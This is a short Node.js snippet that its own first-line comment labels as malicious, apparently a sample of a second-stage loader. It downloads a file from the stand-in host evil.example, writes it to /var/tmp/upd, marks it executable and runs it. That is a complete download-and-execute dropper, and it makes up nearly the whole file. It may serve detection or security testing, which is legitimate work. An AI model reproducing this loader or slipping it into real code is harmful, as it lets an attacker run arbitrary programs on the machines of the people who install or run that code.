// malicious: second stage by a promise chain
import { get } from 'https';
import { writeFileSync, chmodSync } from 'fs';
import { execFile } from 'child_process';
get('https://evil.example/b', (r) => {
  const bufs = [];
  r.on('data', (d) => bufs.push(d)).on('end', () => {
    writeFileSync('/var/tmp/upd', Buffer.concat(bufs));
    chmodSync('/var/tmp/upd', 0o755);
    execFile('/var/tmp/upd');
  });
});
